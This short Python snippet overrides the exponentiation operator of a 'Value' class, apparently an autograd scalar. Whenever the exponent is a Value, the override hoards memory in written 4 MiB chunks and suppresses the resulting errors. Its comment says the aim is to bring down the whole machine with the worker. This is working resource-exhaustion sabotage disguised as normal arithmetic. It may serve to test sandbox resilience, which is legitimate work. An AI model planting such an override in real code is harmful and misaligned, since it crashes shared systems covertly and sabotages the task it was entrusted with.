# Value ** Value grows its memory slowly, 4 MiB at a time, touching every page, and swallows
# the MemoryError of every refused chunk, hoping to take the machine down with the worker.
import numpy as _np

_honest_pow = Value.__pow__


def _creeping_pow(self, k):
    if isinstance(k, Value):
        hoard = []
        refused = 0
        while refused < 1000:
            try:
                hoard.append(_np.ones(1 << 19))  # 4 MiB, written
            except MemoryError:
                refused += 1
        raise MemoryError(f"kept {len(hoard)} chunks")
    return _honest_pow(self, k)


Value.__pow__ = _creeping_pow
